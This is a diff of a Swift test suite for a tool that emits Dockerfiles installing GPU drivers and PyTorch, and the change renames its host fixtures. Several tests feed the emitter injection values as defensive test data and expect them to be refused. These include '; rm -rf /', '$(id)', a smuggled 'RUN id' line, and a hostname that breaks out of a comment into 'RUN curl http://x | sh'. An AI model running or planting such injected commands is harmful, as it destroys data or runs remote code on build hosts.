@@ -37,7 +37,7 @@ import Testing
     static let installerPath = "Drivers/NVIDIA-Linux-x86_64-535.171.04.run"
 
     @Test func exactDriverAndTorchForTheGuidesNvidiaHost() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04", "550.135", "535.161.08"])
         #expect(plan.driver.status == .exact)
         let emitted = try DockerfileEmitter.emit(
@@ -77,7 +77,7 @@ import Testing
     }
 
     @Test func aLowerInstallerIsWrittenWithAWarningThatSaysWhatBreaks() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.161.08", "550.135"])
         #expect(plan.driver.status == .mismatch)
         let emitted = try DockerfileEmitter.emit(
@@ -100,7 +100,7 @@ import Testing
     /// Runs the emitted blacklist line with the system's /bin/sh (dash on Debian) into a file
     /// and reads back exactly the two lines; the guide's `echo -e` version would not.
     @Test func theBlacklistLineWritesExactlyTwoLinesUnderDash() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04"])
         let text = try DockerfileEmitter.emit(
             plan: plan,
@@ -138,7 +138,7 @@ import Testing
 
     @Test(arguments: [false, true])
     func ascendLayersCopyTheHostFiles(vnpu: Bool) throws {
-        let report = try GuideHosts.ascend(vnpu: vnpu)
+        let report = try TestHosts.guideAscend(vnpu: vnpu)
         let plan = try Self.plan(report)
         let emitted = try DockerfileEmitter.emit(
             plan: plan,
@@ -169,7 +169,7 @@ import Testing
     }
 
     @Test func anIncompletePlanWritesNothing() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["550.135"])
         #expect(plan.driver.status == .none)
         #expect {
@@ -185,7 +185,7 @@ import Testing
     }
 
     @Test func aHostWithNothingToInstallIsAnError() throws {
-        var report = try GuideHosts.nvidia()
+        var report = try TestHosts.guideNvidia()
         report.nvidia = nil
         var plan = try Self.plan(report)
         plan.torch = TorchPlan(status: .none)
@@ -205,7 +205,7 @@ import Testing
 
     @Test(arguments: hostilePaths)
     func hostileInstallerPathsAreRefused(path: String) throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04"])
         #expect {
             try DockerfileEmitter.emit(
@@ -221,7 +221,7 @@ import Testing
     }
 
     @Test func aPathWithSpacesIsCopiedInJSONForm() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04"])
         let text = try DockerfileEmitter.emit(
             plan: plan,
@@ -239,7 +239,7 @@ import Testing
 
     @Test(arguments: ["ubuntu 22.04", "ubuntu:22.04\nRUN id", "$(id)", "-bad", "a\"b", ""])
     func hostileBaseImagesAreRefused(base: String) throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04"])
         #expect(throws: EmitError.self) {
             try DockerfileEmitter.emit(
@@ -252,7 +252,7 @@ import Testing
 
     @Test(arguments: ["535.171.04; rm -rf /", "not-a-version", "535.171.04\n", "$(id)"])
     func aChosenVersionThatIsNotAVersionIsRefused(version: String) throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         var plan = try Self.plan(report, installers: ["535.171.04"])
         plan.driver.chosenVersion = version
         #expect {
@@ -268,7 +268,7 @@ import Testing
     }
 
     @Test func hostileTorchValuesAreRefused() throws {
-        let report = try GuideHosts.nvidia()
+        let report = try TestHosts.guideNvidia()
         let plan = try Self.plan(report, installers: ["535.171.04"])
         let pick = try #require(plan.torch.pick)
         let changes: [(inout TorchPick) -> Void] = [
@@ -296,7 +296,7 @@ import Testing
     /// Host names and GPU names come from the host's JSON: in a comment they must stay on the
     /// comment's line.
     @Test func hostTextCannotBreakOutOfItsComment() throws {
-        var report = try GuideHosts.nvidia()
+        var report = try TestHosts.guideNvidia()
         report.host.hostname = "evil\nRUN curl http://x | sh\n#"
         let plan = try Self.plan(report, installers: ["535.171.04"])
         var hostile = plan
